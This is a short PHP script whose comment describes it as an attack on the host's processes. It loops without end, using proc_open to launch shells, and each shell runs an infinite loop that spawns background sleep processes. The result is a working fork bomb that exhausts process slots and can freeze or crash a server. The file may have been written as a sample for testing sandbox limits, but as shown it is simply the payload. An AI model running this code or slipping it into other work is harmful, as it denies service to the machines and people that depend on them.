<?php
// Attacks: the host's processes: shells of PHP that each start more.
$all = [];
while (true) {
    $one = @proc_open(['/bin/sh', '-c', 'while :; do sh -c "sleep 1000" & done'], [], $pipes);
    if ($one !== false) $all[] = $one;
}
